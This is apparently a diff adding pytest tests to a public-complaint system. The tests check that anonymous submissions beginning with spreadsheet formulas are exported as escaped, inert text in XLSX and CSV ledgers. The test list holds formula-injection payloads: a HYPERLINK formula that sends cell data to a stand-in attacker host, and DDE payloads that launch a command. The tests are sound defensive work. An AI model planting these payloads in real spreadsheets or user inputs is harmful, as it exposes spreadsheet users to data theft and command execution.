@@ -361,3 +361,33 @@ def test_the_workday_counter_agrees_with_workdays_between_across_national_day(db
             moment = datetime.datetime.combine(start, datetime.time(23, 0), tzinfo=SHANGHAI)
             later = datetime.datetime.combine(end, datetime.time(0, 30), tzinfo=SHANGHAI)
             assert counter(moment, later) == workdays_between(start, end), (start, end)
+
+
+# --- formula injection -------------------------------------------------------------------------------------------
+
+INJECTIONS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点击查看办理结果")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+@pytest.mark.parametrize("first_line", INJECTIONS)
+def test_an_anonymous_opinion_that_starts_with_a_formula_is_inert_text_in_the_xlsx_ledger(loop, personas, first_line):
+    case = loop.register(title=first_line, body=f"{first_line}\n路灯坏了", is_anonymous=True, reply_via="online")
+    data = ledger_xlsx(user=personas.county_staff, filters=filters(personas.county_staff))
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == case.receipt_code)
+    title = row[HEADERS.index("标题")]
+    assert (title.value, title.data_type) == ("'" + first_line, "s")
+    assert all(cell.data_type != "f" for cell in row)
+
+
+@pytest.mark.parametrize("first_line", INJECTIONS)
+def test_an_anonymous_opinion_that_starts_with_a_formula_is_inert_text_in_the_csv_ledger(loop, personas, first_line):
+    case = loop.register(title=first_line, body=f"{first_line}\n路灯坏了", is_anonymous=True, reply_via="online")
+    data = b"".join(ledger_csv(user=personas.county_staff, filters=filters(personas.county_staff)))
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    row = dict(zip(HEADERS, next(r for r in rows if r[0] == case.receipt_code), strict=True))
+    assert row["标题"] == "'" + first_line
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
